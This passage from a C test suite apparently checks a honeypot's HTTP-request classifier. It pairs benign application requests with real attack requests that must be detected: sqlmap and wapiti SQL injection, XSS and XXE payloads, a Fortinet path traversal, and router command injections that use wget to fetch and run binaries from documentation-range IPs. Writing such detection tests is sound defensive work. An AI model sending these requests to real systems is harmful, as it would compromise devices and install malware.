        "{\"jsonrpc\":\"2.0\",\"method\":\"user.login\",\"params\":{\"username\":\"monitor\",\"password\":\"Kx7-pump-42\"},\"id\":1}",
        "GET /CFIDE/administrator/enter.cfm?locale=en_US HTTP/1.1\r\nHost: cf.example:8500\r\n\r\n",
        "POST /photo/p/api/video.php HTTP/1.1\r\nHost: nas.example:8080\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "album=cJinsP&a=caption&ac=MHwxfDE1ODk5NDQwNjA%3D&f=UMGObv&filename=IMG_2041.mp4",
        /* ordinary use next to the Fastjson, OA suite and Chinese web application rules: JSON-LD with its own
         * "@type", JumpServer's UI listing sessions with its session cookie, RuoYi downloading an uploaded file,
         * a JimuReport dataset query with a ${param} placeholder, SpringBlade's user export with a search */
        "POST /api/events HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: application/ld+json\r\n\r\n"
        "{\"@context\":\"https://schema.org\",\"@type\":\"Event\",\"name\":\"Launch\",\"location\":{\"@type\":\"Place\","
        "\"name\":\"Hall 2\"}}",
        "GET /api/v1/terminal/sessions/?limit=15&offset=0&is_finished=1 HTTP/1.1\r\nHost: jms.example\r\n"
        "Cookie: jms_csrftoken=Jq3kT0aLx9; jms_sessionid=8c1f2e3d4b5a69788796a5b4c3d2e1f0\r\nX-CSRFToken: Jq3kT0aLx9\r\n\r\n",
        "GET /common/download/resource?resource=%2Fprofile%2Fupload%2F2024%2F05%2F12%2Freport_20240512.xlsx HTTP/1.1\r\n"
        "Host: ruoyi.example\r\nCookie: JSESSIONID=5b6c7d8e-1a2b-3c4d-9e8f-0a1b2c3d4e5f\r\n\r\n",
        "POST /jeecg-boot/jmreport/queryFieldBySql HTTP/1.1\r\nHost: jeecg.example:8080\r\nContent-Type: application/json\r\n"
        "X-Access-Token: eyJhbGciOiJIUzI1NiJ9.e30.c2lnbmF0dXJl\r\n\r\n"
        "{\"sql\":\"select id, region, amount from demo_sales where region = '${region}'\",\"dbSource\":\"1a2b3c\",\"type\":\"0\"}",
        "GET /api/blade-user/export-user?Blade-Auth=bearer%20eyJhbGciOiJIUzI1NiJ9.e30.c2ln&account=alice&realName= HTTP/1.1\r\n"
        "Host: blade.example\r\n\r\n",
        /* PHP applications, editors and panels: their ordinary use */
        "GET /index.php HTTP/1.1\r\nHost: shop.example\r\nAccept-Charset: ISO-8859-1,utf-8;q=0.7,*;q=0.7\r\n"
        "Accept-Encoding: gzip,deflate\r\n\r\n",
        "GET /user.php?act=login HTTP/1.1\r\nHost: shop.example\r\nReferer: http://shop.example/goods.php?id=3\r\n"
        "Cookie: ECS_ID=1255e244738135e418b742b1c9a60f5486aa4559; ECS[visit_times]=2\r\n\r\n",
        "GET /forum.php?mod=viewthread&tid=42 HTTP/1.1\r\nHost: bbs.example\r\n"
        "Cookie: QaFh_2132_saltkey=Vd3Yl3Pw; QaFh_2132_language=sc; QaFh_2132_lastvisit=1562807123\r\n\r\n",
        "GET /ueditor/php/controller.php?action=config&&noCache=1700000000000 HTTP/1.1\r\nHost: cms.example\r\n\r\n",
        "POST /kindeditor/php/upload_json.php?dir=image HTTP/1.1\r\nHost: cms.example\r\nCookie: PHPSESSID=4f2a9c\r\n"
        "Content-Type: multipart/form-data; boundary=b1\r\n\r\n--b1\r\nContent-Disposition: form-data; name=\"imgFile\"; "
        "filename=\"team-photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nJFIF\r\n--b1--\r\n",
        "GET /wp-content/themes/eGamer/timthumb.php?src=http://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg&w=300&h=200 "
        "HTTP/1.1\r\nHost: blog.example\r\n\r\n",
        "GET /cgi-bin/awstats.pl?config=www.example.com&framename=mainright&output=urldetail HTTP/1.1\r\nHost: stats.example\r\n\r\n",
        "GET /verify.php?id=12&confirm_hash=6d2f0c1b9a8e7d6c5b4a3f2e1d0c9b8a HTTP/1.1\r\nHost: bugs.example\r\n\r\n",
        "GET /cpanelwebcall/aaaabbbbccccddddeeeeffff HTTP/1.1\r\nHost: panel.example:2082\r\n\r\n",
        "GET /node/1?_format=hal_json HTTP/1.1\r\nHost: drupal.example\r\nAccept: application/hal+json\r\n\r\n",
        "POST /index.php HTTP/1.1\r\nHost: crm.example\r\nCookie: PHPSESSID=a3c7f1e9\r\nContent-Type: multipart/form-data; "
        "boundary=b2\r\n\r\n--b2\r\nContent-Disposition: form-data; name=\"module\"\r\n\r\nEmailTemplates\r\n--b2\r\n"
        "Content-Disposition: form-data; name=\"action\"\r\n\r\nAttachFiles\r\n--b2\r\nContent-Disposition: form-data; "
        "name=\"file\"; filename=\"logo.png\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b2--\r\n",
        /* ordinary use next to the Java middleware and DevOps rules: an app's own rememberMe=true cookie, a
         * Hystrix dashboard proxying a service's hystrix.stream, a Nexus content-selector preview (JEXL without
         * Java classes), SonarQube's UI reading settings with its session, Rocket.Chat's anonymous method call
         * with a plain token, a Harbor administrator creating a user from the UI, an H2 console login with a
         * plain in-memory URL, a Struts page with debug=false */
        "GET /account HTTP/1.1\r\nHost: shop.example\r\nCookie: session=9f8e7d6c; rememberMe=true\r\n\r\n",
        "GET /proxy.stream?origin=http%3A%2F%2Forders%3A8080%2Factuator%2Fhystrix.stream&delay=2000 HTTP/1.1\r\n"
        "Host: dashboard.example:7979\r\nAccept: text/event-stream\r\n\r\n",
        "POST /service/extdirect HTTP/1.1\r\nHost: nexus.example:8081\r\nContent-Type: application/json\r\n"
        "NX-ANTI-CSRF-TOKEN: 0.41\r\nCookie: NX-ANTI-CSRF-TOKEN=0.41; NXSESSIONID=0c4f2b1e\r\n\r\n"
        "{\"action\":\"coreui_Component\",\"method\":\"previewAssets\",\"data\":[{\"page\":1,\"start\":0,\"limit\":50,"
        "\"filter\":[{\"property\":\"repositoryName\",\"value\":\"maven-releases\"},{\"property\":\"expression\","
        "\"value\":\"format == \\\"maven2\\\" and path =^ \\\"/org/example/\\\"\"},{\"property\":\"type\",\"value\":\"jexl\"}]}],"
        "\"type\":\"rpc\",\"tid\":12}",
        "GET /api/settings/values?keys=sonar.core.serverBaseURL HTTP/1.1\r\nHost: sonar.example:9000\r\n"
        "Cookie: XSRF-TOKEN=k2v3; JWT-SESSION=eyJhbGciOiJIUzI1NiJ9.e30.c2ln\r\nX-XSRF-TOKEN: k2v3\r\n\r\n",
        "POST /api/v1/method.callAnon/getPasswordPolicy HTTP/1.1\r\nHost: chat.example:3000\r\nContent-Type: "
        "application/json\r\n\r\n{\"message\":\"{\\\"msg\\\":\\\"method\\\",\\\"id\\\":\\\"7\\\",\\\"method\\\":"
        "\\\"getPasswordPolicy\\\",\\\"params\\\":[{\\\"token\\\":\\\"Zq3k9Tx0\\\"}]}\"}",
        "POST /api/users HTTP/1.1\r\nHost: harbor.example\r\nCookie: sid=8a7b6c5d4e3f2a1b; _gorilla_csrf=MTcx\r\n"
        "Content-Type: application/json\r\n\r\n{\"username\":\"ci-bot\",\"email\":\"ci@example.com\",\"realname\":\"CI\","
        "\"password\":\"Xk29!vq7Lm\",\"comment\":\"\",\"has_admin_role\":true}",
        "POST /h2-console/login.do?jsessionid=0a1b2c3d HTTP/1.1\r\nHost: localhost:8080\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nlanguage=en&setting=Generic+H2+%28Embedded%29&name=Generic+H2+"
        "%28Embedded%29&driver=org.h2.Driver&url=jdbc%3Ah2%3Amem%3Atestdb&user=sa&password=",
        "GET /catalog/list.action?debug=false&page=2 HTTP/1.1\r\nHost: shop.example:8080\r\n\r\n",
        "GET /api/users/admin/check HTTP/1.1\r\nHost: docker.example:9443\r\nAccept: application/json\r\n"
        "Referer: https://docker.example:9443/\r\n\r\n",
        /* KEV gap rules (2026-12): their legitimate neighbours */
        "GET /owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example.com%2fowa%2f HTTP/1.1\r\n"
        "Host: mail.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "GET /index.php/blog/2024/05/hello-world?page=2 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "GET /index.htm HTTP/1.1\r\nHost: amt.example.com:16992\r\nAuthorization: Digest username=\"admin\", "
        "realm=\"Digest:048A0000000000000000000000000000\", nonce=\"qTILAAUFAAAjY7rDwLSmxFCq5EJ3pH/n\", uri=\"/index.htm\", "
        "response=\"a1b2c3d4e5f60718293a4b5c6d7e8f90\", qop=auth, nc=00000001, cnonce=\"60513ab58858482c\"\r\n\r\n",
        "GET /account HTTP/1.1\r\nHost: shop.example.com\r\nCookie: JSESSIONID=8F2C; rememberMe=deleteMe\r\n\r\n",
        "GET /wp-admin/admin-post.php?action=export_orders&format=csv HTTP/1.1\r\nHost: blog.example.com\r\n"
        "Cookie: wordpress_logged_in_abc=alice%7C1700000000%7Ctoken\r\n\r\n",
        "POST /RPC2_Login HTTP/1.1\r\nHost: cam.example.com\r\nContent-Type: application/json\r\n\r\n"
        "{\"method\":\"global.login\",\"params\":{\"userName\":\"admin\",\"password\":\"\",\"clientType\":\"Web3.0\","
        "\"loginType\":\"Direct\"},\"id\":1}",
        "POST /Autodiscover/Autodiscover.xml HTTP/1.1\r\nHost: mail.example.com\r\nUser-Agent: Microsoft Office/16.0\r\n"
        "Content-Type: text/xml\r\n\r\n<?xml version=\"1.0\" encoding=\"utf-8\"?><Autodiscover xmlns=\"http://schemas."
        "microsoft.com/exchange/autodiscover/outlook/requestschema/2006\"><Request><EMailAddress>alice@example.com"
        "</EMailAddress></Request></Autodiscover>",
        "POST /HNAP1/ HTTP/1.1\r\nHost: router.example.com\r\nSOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings\"\r\n"
        "Content-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><soap:Envelope><soap:Body><GetDeviceSettings "
        "xmlns=\"http://purenetworks.com/HNAP1/\"/></soap:Body></soap:Envelope>",
        "GET /.well-known/mcp.json HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: mcp-client/1.0\r\n\r\n",
        "GET /product/info.php?id=3 HTTP/1.1\r\nHost: shop.example.com\r\n\r\n",
        "POST /api/jsonws/invoke HTTP/1.1\r\nHost: portal.example.com\r\nContent-Type: application/json\r\n"
        "Content-Length: 29\r\n\r\n{\"/user/get-current-user\":{}}",
        "GET /xmlrpc/ HTTP/1.1\r\nHost: docs.example.com\r\n\r\n",
        "GET /remote/login?lang=en HTTP/1.1\r\nHost: vpn.example.com\r\n\r\n",
        "GET /owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example.com%2fowa%2f HTTP/1.1\r\n"
        "Host: mail.example.com\r\n\r\n",
        "GET /admin/config.php?display=extensions HTTP/1.1\r\nHost: pbx.example.com\r\n"
        "Cookie: PHPSESSID=5e0c1a7b9d\r\n\r\n",
        "GET /console/login HTTP/1.1\r\nHost: app.example.com\r\n\r\n",
        "GET /phpmyadmin/index.php?route=/database/structure&db=shop HTTP/1.1\r\nHost: db.example.com\r\n"
        "Cookie: phpMyAdmin=4f2c8a; pma_lang=en\r\n\r\n",
        "GET /graph_realtime.php?action=init HTTP/1.1\r\nHost: cacti.example.com\r\nCookie: Cacti=9b1f0c2d7e4a5b6c\r\n\r\n",
        "GET /cgi-bin/luci/;stok=4b7f1e2a9c/locale?form=lang&operation=read HTTP/1.1\r\nHost: router.example.com\r\n\r\n",
        /* KEV second pass look-alikes: a Telerik editor dialog, a Grafana snapshot by its real key, a
           Zimbra zimlet proxy to an outside feed, a D-Link UI's hedwig.cgi save, a Desktop Central agent log */
        "GET /Telerik.Web.UI.DialogHandler.aspx?DialogName=ImageManager&renderMode=2&Skin=Default&Title=Image%20"
        "Manager&doid=5f0c1d2e-3a4b&dpptn=&isRtl=false&dp=QUFBQUFBQUFBQUFBQUFBQQ%3D%3D HTTP/1.1\r\nHost: "
        "www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "GET /api/snapshots/pM1eJ8kQ2wX7zR4tY9uV HTTP/1.1\r\nHost: grafana.example.com\r\nUser-Agent: Mozilla/5.0\r\n"
        "Accept: application/json\r\n\r\n",
        "GET /service/proxy?target=https%3A%2F%2Fwww.example.org%2Fnews%2Ffeed.rss HTTP/1.1\r\nHost: mail.example.com\r\n"
        "User-Agent: Mozilla/5.0\r\nCookie: ZM_AUTH_TOKEN=0_abc\r\n\r\n",
        "POST /hedwig.cgi HTTP/1.1\r\nHost: 192.168.0.1\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: text/xml\r\nCookie: "
        "uid=a1b2c3d4\r\n\r\n<?xml version=\"1.0\" encoding=\"utf-8\"?><postxml><module><service>DEVICE.TIME</service>"
        "<device><time><ntp><enable>1</enable></ntp></time></device></module></postxml>",
        "POST /mdm/client/v1/mdmLogUploader?udid=3f9a1c2b7d&filename=agentlog.zip HTTP/1.1\r\nHost: dc.example.com:8383\r\n"
        "User-Agent: Mozilla/5.0\r\nContent-Type: application/octet-stream\r\n\r\nPK\x03\x04",
        /* third-pass look-alikes: a SharePoint people picker, an Adminer MySQL login, a CrushFTP listing,
           a FUEL CMS page select, a Drupal delete returning to its list, a contact form, a J-Web status poll */
        "GET /_layouts/15/Picker.aspx?PickerDialogType=Microsoft.SharePoint.WebControls.ItemPickerDialog HTTP/1.1\r\n"
        "Host: sp.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "POST /adminer.php HTTP/1.1\r\nHost: db.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nauth%5Bdriver%5D=server&auth%5Bserver%5D=localhost&auth%5Bdb%5D=shop",
        "POST /WebInterface/function/ HTTP/1.1\r\nHost: ftp.example.com\r\nUser-Agent: Mozilla/5.0\r\nCookie: "
        "CrushAuth=1752934512345_Wr8k; currentAuth=Wr8k\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "command=getXMLListing&path=%2F&c2f=Wr8k",
        "GET /fuel/pages/select/?filter=about HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "POST /?q=node/12/delete&destination=admin/content HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: "
        "Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nconfirm=1&form_id=node_delete_confirm",
        "POST /contact.php HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nname=Alice+Xu&email=alice.x%40example.com&msg=Please+call+me+-X+tomorrow",
        "POST /webauth_operation.php HTTP/1.1\r\nHost: fw.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nrs=get_auth_status&rsargs%5B%5D=1",
    };
    for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
        struct hp_webclass w;
        classify_str(reqs[i], &w);
        if (w.nclasses || w.ncves || w.nrules || w.commands_len) {
            dump(reqs[i], &w);
            fail();
        }
        assert_null(w.owasp_iot);
    }
}

/*
 * Ordinary requests are tried against few rules: those their gates' literals
 * name plus the ungated ones (4 now).  A rule whose gate every request
 * passes ("match method ^GET$" chosen over a path literal, an alternation of
 * more than 8 branches whose literal falls back to "/") costs a PCRE2 call on
 * every request; this catches one being added.  Not a timing.
 */
static void test_candidates_few(void **state)
{
    (void)state;
    if (!hp_webclass_litsets())
        skip();
    static const char *const reqs[] = {
        "GET /?t=1&n=123456 HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
        "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\nAccept: text/html,application/"
        "xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\n"
        "Accept-Encoding: gzip, deflate, br\r\nConnection: keep-alive\r\n\r\n",
        "GET /static/css/site.css?v=42 HTTP/1.1\r\nHost: www.example.com\r\nReferer: https://www.example.com/\r\n"
        "Accept: text/css,*/*;q=0.1\r\n\r\n",
    };
    for (size_t i = 0; i < sizeof(reqs) / sizeof(reqs[0]); i++) {
        const char *ids[64];
        struct treq t;
        treq_str(&t, reqs[i]);
        size_t n = hp_webclass_candidates(&t.v, ids, 64);
        treq_free(&t);
        if (n > 10) {
            fprintf(stderr, "%zu candidate rules for request %zu:", n, i);
            for (size_t k = 0; k < n && k < 64; k++)
                fprintf(stderr, " %s", ids[k]);
            fprintf(stderr, "\n");
        }
        assert_true(n > 0 && n <= 10);
    }
}

/* False-positive audit (webclass_benign_apps.h): none may get a class, CVE, rule or command. */
static size_t benign_list_classified(const char *const *reqs, size_t n, const char *what)
{
    size_t bad = 0;
    for (size_t i = 0; i < n; i++) {
        struct hp_webclass w;
        classify_str(reqs[i], &w);
        if (w.nclasses || w.ncves || w.nrules || w.commands_len || w.owasp_iot) {
            fprintf(stderr, "%s request %zu classified\n", what, i);
            dump(reqs[i], &w);
            bad++;
        }
    }
    return bad;
}

static void test_benign_apps(void **state)
{
    (void)state;
    size_t bad = benign_list_classified(benign_apps, sizeof(benign_apps) / sizeof(benign_apps[0]), "benign app");
    bad += benign_list_classified(benign_apps2, sizeof(benign_apps2) / sizeof(benign_apps2[0]), "benign app (2026-12 rules)");
    assert_int_equal(bad, 0);
}

/* Cisco ISE's enableStrongSwanTunnel takes a Java-serialized String[]: ordinary values (a host and a
 * flag) are only a serialized object, not CVE-2025-20281's injected command nor CVE-2025-20337's gadget. */
static void test_ise_string_array_benign(void **state)
{
    (void)state;
    static const char head[] = "POST /deployment-rpc/enableStrongSwanTunnel HTTP/1.1\r\nHost: ise.example\r\n"
                               "Content-Length: 59\r\n\r\n";
    static const unsigned char body[] = {
        0xac, 0xed, 0x00, 0x05, 'u', 'r', 0x00, 0x13, '[', 'L', 'j', 'a', 'v', 'a', '.', 'l', 'a', 'n', 'g', '.',
        'S', 't', 'r', 'i', 'n', 'g', ';', 0xad, 0xd2, 0x56, 0xe7, 0xe9, 0x1d, 0x7b, 0x47, 0x02, 0x00, 0x00,
        'x', 'p', 0x00, 0x00, 0x00, 0x02, 't', 0x00, 0x08, 'i', 's', 'e', '2', '.', 'l', 'a', 'n', 't', 0x00,
        0x01, '1'};
    _Static_assert(sizeof(body) == 59, "body size");
    unsigned char req[sizeof(head) - 1 + sizeof(body)];
    memcpy(req, head, sizeof(head) - 1);
    memcpy(req + sizeof(head) - 1, body, sizeof(body));
    struct treq t;
    treq_parse(&t, req, sizeof(req), 443);
    struct hp_webclass w;
    hp_webclass_classify(&t.v, &w);
    treq_free(&t);
    assert_false(has_rule(&w, "cisco-ise-strongswan-cmd"));
    assert_false(has_rule(&w, "cisco-ise-strongswan-deserialization"));
    assert_int_equal(w.ncves, 0);
    assert_int_equal(w.commands_len, 0);
}

/* Fortinet's fgt_lang traversal carries lang=/../../; it must keep its own CVE and not
 * also be called ThinkPHP's multi-language traversal (CVE-2022-47945), which still fires on
 * ThinkPHP's lang= anywhere else. */
static void test_fgt_lang_not_thinkphp(void **state)
{
    struct hp_webclass w;
    classify_str("GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1\r\n"
                 "Host: 198.51.100.37:10443\r\n\r\n", &w);
    assert_true(has_cve(&w, "CVE-2018-13379"));
    assert_true(has_rule(&w, "fortinet-fgt-lang"));
    assert_false(has_cve(&w, "CVE-2022-47945"));
    assert_false(has_rule(&w, "thinkphp-lang-traversal"));
    classify_str("GET /index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/&/<?=phpinfo()?>"
                 "+/tmp/x.php HTTP/1.1\r\nHost: a.example\r\n\r\n", &w);
    assert_true(has_cve(&w, "CVE-2022-47945"));
}

/* D-Link's /command.php takes its cmd= POSTed; a GET with ?cmd= is a webshell probe, not the CVE. */
static void test_command_php_by_method(void **state)
{
    struct hp_webclass w;
    classify_str("GET /command.php?cmd=id HTTP/1.1\r\nHost: a.example\r\n\r\n", &w);
    assert_false(has_rule(&w, "dlink-command-php"));
    assert_int_equal(w.ncves, 0);
    assert_true(has_class(&w, "webshell"));
    classify_str("POST /command.php HTTP/1.1\r\nHost: 198.51.100.64\r\nContent-Type: application/x-www-form-urlencoded"
                 "\r\n\r\ncmd=id", &w);
    assert_true(has_rule(&w, "dlink-command-php"));
}

/* What Debian's web scanners send (sqlmap 1.7, wapiti 3.0, whatweb, dirb), one request per payload
 * family; the integration case http_real_scanners_classified runs the tools themselves. */
static void test_scanner_payloads(void **state)
{
    static const struct { const char *req, *cls; } t[] = {
        /* sqlmap: heuristic, boolean, error, UNION, stacked, time-based, inline */
        { "GET /?id=1%28.%28.%27%28%28%29%22%28 HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n", "sqli" },
        { "GET /?id=1%27WjJTSX%3C%27%22%3EJshpVj HTTP/1.1\r\n\r\n", "xss" },
        { "GET /?id=1%20AND%208654%3D5604 HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /?id=1%29%20AND%207037%3D1928%20AND%20%284139%3D4139 HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /?id=1%20AND%201415%3DCAST%28%28CHR%28113%29%7C%7CCHR%28106%29%29%20AS%20NUMERIC%29 HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /?id=1%20AND%208939%20IN%20%28SELECT%20%28CHAR%28113%29%2BCHAR%28106%29%29%29 HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /?id=1%27%20ORDER%20BY%201--%20uQTC HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /?id=1%3BSELECT%20DBMS_PIPE.RECEIVE_MESSAGE%28CHR%2872%29%2C1%29%20FROM%20DUAL-- HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /?id=1%29%3BSELECT%20COUNT%28%2A%29%20FROM%20GENERATE_SERIES%281%2C1000000%29-- HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /?name=abc%27%20HAVING%206902%3D3565%20AND%20%27fByf%27%20LIKE%20%27fByf HTTP/1.1\r\n\r\n", "sqli" },
        { "GET / HTTP/1.1\r\nUser-Agent: -9885)) OR 1061=(SELECT (CASE WHEN (1061=4974) THEN 1061 ELSE "
          "(SELECT 4974 UNION SELECT 5050) END))-- kCbG\r\n\r\n", "sqli" },
        { "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)' AND 5555=5555 AND 'aQzT'='aQzT\r\n\r\n", "sqli" },
        { "GET / HTTP/1.1\r\nReferer: http://127.0.0.1/) AND 9876=9876-- uTgh\r\n\r\n", "sqli" },
        { "GET / HTTP/1.1\r\nCookie: id=1 OR NOT 4343=4343\r\n\r\n", "sqli" },
        { "GET / HTTP/1.1\r\nX-Forwarded-For: 127.0.0.1' OR 'xyz'='xyz\r\n\r\n", "sqli" },
        /* wapiti */
        { "GET /s.php?q=test%C2%BF%27%22%28 HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /s.php?q=%27%29%29%2F%2A%2A%2For%2F%2A%2A%2Fsleep%283%29%3D%27 HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /s.php?q=%3Bwaitfor%2F%2A%2A%2Fdelay%2F%2A%2A%2F%270%3A0%3A3%27--1 HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /s.php?q=%27%3Bd%3Dnew%20Date%28%29%3Bdo%7Bcd%3Dnew%20Date%28%29%3B%7Dwhile%28cd-d%3C10000%29%3B%2F%2F HTTP/1.1\r\n\r\n", "sqli" },
        { "GET /s.php?q=%7Cenv HTTP/1.1\r\n\r\n", "command-injection" },
        { "GET /s.php?q=test%0Aenv%3B HTTP/1.1\r\n\r\n", "command-injection" },
        { "GET /s.php?q=a%60sleep%2060%60 HTTP/1.1\r\n\r\n", "command-injection" },
        { "GET /s.php?q=%26ping%20-n%2025%20127.0.0.1%26 HTTP/1.1\r\n\r\n", "command-injection" },
        { "GET /s.php?q=%27.exit%28md5%28%27w4p1t1_md5%27%29%29%3B%2F%2F HTTP/1.1\r\n\r\n", "rce" },
        { "GET /s.php?q=data%3A%3Bbase64%2CPD9waHAgZWNobyAndzRwMXQxJzsgPz4%3D HTTP/1.1\r\n\r\n", "lfi" },
        { "GET /s.php?q=....%2F%2F....%2F%2F....%2F%2Fetc%2Fservices HTTP/1.1\r\n\r\n", "path-traversal" },
        { "GET /s.php?q=C%3A%2FWindows%2FSystem32%2Fdrivers%2Fetc%2Fservices HTTP/1.1\r\n\r\n", "lfi" },
        { "GET /s.php?q=s.php%3A%3A%24DATA HTTP/1.1\r\n\r\n", "lfi" },
        { "GET /s.php?q=s.php%00 HTTP/1.1\r\n\r\n", "lfi" },
        { "GET /s.php?q=https%3A%2F%2Fwapiti3.ovh%2Fe.php%00 HTTP/1.1\r\n\r\n", "rfi" },
        { "GET /s.php?q=http%253A%2F%2Fwww.google.fr%250D%250Awapiti%253A%25203.0.4%2520version HTTP/1.1\r\n\r\n", "xss" },
        { "GET /s.php?q=https%3A%2F%2Fwapiti3.ovh%2Fssrf%2Fu5to15%2F1%2F71%2F HTTP/1.1\r\n\r\n", "ssrf" },
        { "GET /s.php?q=https%3A%2F%2Fopenbugbounty.org%2F HTTP/1.1\r\n\r\n", "ssrf" },
        { "POST /s.php HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE foo[<!ELEMENT foo ANY>"
          "<!ENTITY xxe SYSTEM \"file:///etc/networks\">]><foo>&xxe;</foo>", "lfi" },
        { "POST /s.php HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n"
          "<!ENTITY % remote SYSTEM \"https://wapiti3.ovh/dtd/x/1/71/linux.dtd\">\n%remote; ]>", "ssrf" },
        { "GET /s.php?q=%3CSvG%2FoNloAd%3Dalert%28%2Fw1%2F%29%3E HTTP/1.1\r\n\r\n", "xss" },
        { "GET /s.php?q=%3Cdetails%20open%20ontoggle%3Dconfirm%28%2Fw1%2F%29%3E HTTP/1.1\r\n\r\n", "xss" },
        { "GET /s.php?q=%22autofocus%20href%20onfocus%3D%28%28x%29%3D%3E%28confirm%29%28x%29%29 HTTP/1.1\r\n\r\n", "xss" },
        /* whatweb and dirb */
        { "GET / HTTP/1.1\r\nUser-Agent: WhatWeb/0.5.5\r\n\r\n", "scanner" },
        { "GET /randomfile1 HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n\r\n", "scanner" },
        { "GET /admin/frand2.php HTTP/1.1\r\n\r\n", "scanner" },
    };
    for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        struct hp_webclass w;
        classify_str(t[i].req, &w);
        if (!has_class(&w, t[i].cls)) {
            fprintf(stderr, "want class %s\n", t[i].cls);
            dump(t[i].req, &w);
            fail();
        }
    }
}

/* A .jsp PUT to ActiveMQ's fileserver is CVE-2016-3088's first step, not
 * Tomcat's CVE-2017-12615; the same PUT anywhere else is Tomcat's. */
static void test_put_jsp_by_product(void **state)
{
    struct hp_webclass w;
    classify_str("PUT /fileserver/s.jsp HTTP/1.1\r\nHost: mq:8161\r\nContent-Length: 4\r\n\r\n<%%>", &w);
    assert_true(has_cve(&w, "CVE-2016-3088"));
    assert_false(has_cve(&w, "CVE-2017-12615"));
    classify_str("PUT /s.jsp/ HTTP/1.1\r\nHost: tc:8080\r\nContent-Length: 4\r\n\r\n<%%>", &w);
    assert_true(has_cve(&w, "CVE-2017-12615"));
    assert_false(has_cve(&w, "CVE-2016-3088"));
}

static void test_commands_hg532(void **state)
{
    struct hp_webclass w;
    classify_str("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n"
                 "<NewStatusURL>$(/bin/busybox wget -g 192.0.2.7 -l /tmp/x -r /mips)</NewStatusURL>"
                 "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>", &w);
    assert_true(has_cve(&w, "CVE-2017-17215"));
    assert_true(has_class(&w, "command-injection"));
    assert_string_equal(w.owasp_iot, "I3");
    assert_string_equal(w.commands, "$(/bin/busybox wget -g 192.0.2.7 -l /tmp/x -r /mips)\n$(echo HUAWEIUPNP)");
    assert_int_equal(w.commands_len, strlen(w.commands));
}

static void test_commands_ifs(void **state)
{
    struct hp_webclass w;
    /* ${IFS}, $IFS$9, ${IFS%??} and tabs all become spaces in the command */
    classify_str("GET /cgi-bin/;cd${IFS}/tmp;wget$IFS$9http://192.0.2.1/a;sh${IFS%25%3F%3F}a\tb HTTP/1.1\r\n\r\n", &w);
    assert_true(has_cve(&w, "CVE-2016-6277"));
    assert_string_equal(w.commands, "cd /tmp;wget http://192.0.2.1/a;sh a b");

    /* double-encoded backquote in a parameter, backslash-newline in a body */
    classify_str("GET /cgi-bin/ping.cgi?ping_ip=%2560wget%2520http://192.0.2.2/p%2560 HTTP/1.1\r\n\r\n", &w);
    assert_true(has_class(&w, "command-injection"));
    assert_non_null(strstr(w.commands, "wget http://192.0.2.2/p"));

    classify_str("POST /x.cgi HTTP/1.1\r\nContent-Type: text/plain\r\n\r\nhost=a;wg\\\net http://192.0.2.3/b", &w);
    assert_true(has_rule(&w, "cmdi-param-metachar"));
    assert_non_null(strstr(w.commands, "wget http://192.0.2.3/b"));
}

static void test_commands_kinds(void **state)
{
    struct hp_webclass w;
